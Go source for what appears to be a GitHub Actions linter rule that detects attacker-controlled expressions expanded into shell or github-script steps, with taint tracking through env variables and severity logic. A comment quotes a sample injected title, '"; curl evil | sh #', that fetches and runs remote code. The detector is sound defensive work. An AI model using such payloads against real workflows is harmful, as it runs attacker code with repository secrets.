package workflows

import (
	"context"
	"fmt"
	"strings"

	"github.com/rhysd/actionlint"
	"github.com/wardenbot/warden/checks"
)

// scriptInjection finds attacker-controlled ${{ }} expressions expanded
// into a shell script or an actions/github-script script. The runner
// substitutes the value into the script text before the interpreter sees
// it, so a pull request titled `"; curl evil | sh #` runs that command.
type scriptInjection struct{}

func (scriptInjection) Doc() checks.Rule {
	return checks.Rule{
		ID:       "workflows/script-injection",
		Title:    "Attacker-controlled expression expanded into a script",
		Category: checks.CategoryWorkflows,
		Severity: checks.SeverityCritical,
		Description: "A `${{ }}` expression whose value an outsider chooses (an issue or pull request title or body, a comment, " +
			"a branch name, a commit message or author) is written into a `run:` script or an actions/github-script `script:`. " +
			"GitHub substitutes the text before the shell or JavaScript runs, so a crafted value becomes code running with the " +
			"job's token and secrets. Values set into `env:` from such expressions and read back as `${{ env.NAME }}` are followed too. " +
			"Critical when the workflow runs on pull_request_target, workflow_run, issue_comment, issues or discussion events " +
			"(anyone can trigger them and they run with the base repository's secrets); high otherwise.",
		Remediation: "Pass the value through an environment variable and quote it: set `NAME: ${{ github.event.issue.title }}` " +
			"under the step's `env:` and use `\"$NAME\"` in the script (`process.env.NAME` in github-script).",
		HelpURI:    refScriptInjection,
		References: []string{cwe94, cwe78, refScriptInjection, refUntrustedInput},
	}
}

// sink is a script that expressions are expanded into.
type sink struct {
	Value *actionlint.String
	Kind  sinkKind
}

type sinkKind int

const (
	sinkShell sinkKind = iota + 1
	sinkJavaScript
)

// taintedExpr is one finding's worth of evidence.
type taintedExpr struct {
	Expr   expr
	Source string // the untrusted context, e.g. github.event.issue.title
	ViaEnv string // set when the value reaches the script through env.NAME
	Pos    position
	Exact  bool // Pos is the expression's own position, found verbatim
	// ViaInput is set for an action input expanded into the action's own
	// script: dangerous only when a caller passes untrusted text.
	ViaInput bool
}

func (r scriptInjection) Check(_ context.Context, s *scan, f *file) []checks.Finding {
	var out []checks.Finding
	severity, why := r.severity(f)
	for _, j := range f.sortedJobs() {
		for i, st := range j.Steps {
			if st == nil {
				continue
			}
			sk, ok := stepSink(st)
			if !ok {
				continue
			}
			env := taintedEnv(s.check.untrusted, f, j, st)
			tainted := findTainted(s.check.untrusted, f, sk.Value, env)
			if len(tainted) == 0 {
				continue
			}
			fix := envFix(f, j, st, sk, tainted)
			for _, te := range tainted {
				sev := severity
				if te.ViaInput {
					sev = checks.SeverityMedium
				}
				fd := checks.Finding{
					Severity:  sev,
					StartLine: te.Pos.Line,
					Message:   injectionMessage(te, sk, stepLabel(st, i), why),
					Key:       jobID(j) + "/" + stepKey(st, i) + ": " + te.Expr.Inner,
					Fix:       fix,
				}
				if te.Exact {
					fd.StartColumn, fd.EndColumn = te.Pos.Col, te.Pos.Col+len(te.Expr.Raw)-1
				}
				out = append(out, fd)
			}
		}
	}
	return out
}

func (scriptInjection) severity(f *file) (checks.Severity, string) {
	if t := f.firstTrigger(privilegedTriggers); t != "" {
		return checks.SeverityCritical, "this workflow runs on " + t + " with the repository's secrets"
	}
	if f.Kind == kindAction {
		return checks.SeverityHigh, "any workflow using this action is exposed"
	}
	return checks.SeverityHigh, ""
}

func injectionMessage(te taintedExpr, sk sink, step, why string) string {
	where := "the shell script"
	if sk.Kind == sinkJavaScript {
		where = "the github-script code"
	}
	src := te.Source
	if te.ViaEnv != "" {
		src = fmt.Sprintf("env.%s (set from %s)", te.ViaEnv, te.Source)
	}
	if te.ViaInput {
		return fmt.Sprintf("`%s` expands the action input %s into %s of %s, so a caller that passes untrusted text (an issue title, a branch name) has it run as code.", te.Expr.Raw, te.Source, where, step)
	}
	msg := fmt.Sprintf("`%s` expands attacker-controlled %s into %s of %s, so a crafted value runs as code", te.Expr.Raw, src, where, step)
	if why != "" {
		msg += "; " + why
	}
	return msg + "."
}

// stepSink returns the script of a run step or of actions/github-script.
func stepSink(st *actionlint.Step) (sink, bool) {
	if r, ok := stepRun(st); ok {
		return sink{Value: r.Run, Kind: sinkShell}, true
	}
	a, ref, ok := stepAction(st)
	if !ok {
		return sink{}, false
	}
	for _, sa := range scriptActions {
		if !ref.isAction(sa.action) {
			continue
		}
		if in := input(a, sa.input); in != nil && in.Value != nil {
			return sink{Value: in.Value, Kind: sa.kind}, true
		}
	}
	return sink{}, false
}

// scriptActions are actions whose input is run as a script, so an
// expression expanded into it is code.
var scriptActions = []struct {
	action, input string
	kind          sinkKind
}{
	{"actions/github-script", "script", sinkJavaScript},
	{"azure/cli", "inlinescript", sinkShell},
	{"azure/powershell", "inlinescript", sinkShell},
}

// envTaint is an environment variable set from an untrusted context.
type envTaint struct {
	Name   string // as defined
	Source string
}

// taintedEnv maps the lower-cased names of environment variables visible
// to a step to the untrusted context they were set from. A step's env
// overrides its job's, which overrides the workflow's.
func taintedEnv(m *untrustedMatcher, f *file, j *actionlint.Job, st *actionlint.Step) map[string]envTaint {
	out := map[string]envTaint{}
	for _, env := range []*actionlint.Env{f.Workflow.Env, j.Env, st.Env} {
		if env == nil {
			continue
		}
		for _, v := range env.Vars {
			if v == nil || v.Name == nil {
				continue
			}
			name := strings.ToLower(v.Name.Value)
			delete(out, name)
			if v.Value == nil {
				continue
			}
			if src, ok := untrustedIn(m, f, v.Value); ok {
				out[name] = envTaint{Name: v.Name.Value, Source: src}
			}
		}
	}
	return out
}

// untrustedIn returns the first untrusted context any expression of value reads.
func untrustedIn(m *untrustedMatcher, f *file, value *actionlint.String) (string, bool) {
	for _, e := range f.exprs(value) {
		for _, p := range e.paths() {
			if src, ok := m.match(p); ok {
				return src, true
			}
		}
	}
	return "", false
}

// findTainted locates every expression of a script that expands untrusted
// data, directly or through a tainted env variable.
func findTainted(m *untrustedMatcher, f *file, v *actionlint.String, env map[string]envTaint) []taintedExpr {
	var out []taintedExpr
	sc := f.scan(v)
	for _, e := range f.exprs(v) {
		pos, exact := sc.find(e.Raw, posOf(v.Pos))
		te := taintedExpr{Expr: e, Pos: pos, Exact: exact}
		for _, p := range e.paths() {
			if src, ok := m.match(p); ok {
				te.Source = src
				break
			}
			if len(p) == 2 && p[0] == "env" {
				if et, ok := env[p[1]]; ok {
					te.Source, te.ViaEnv = et.Source, et.Name
					break
				}
			}
			if f.Kind == kindAction && len(p) >= 2 && p[0] == "inputs" && p[1] != "*" {
				// A composite action cannot know what its callers pass;
				// `with: title: ${{ github.event.issue.title }}` is common.
				te.Source, te.ViaInput = "inputs."+p[1], true
				break
			}
		}
		if te.Source != "" {
			out = append(out, te)
		}
	}
	return out
}
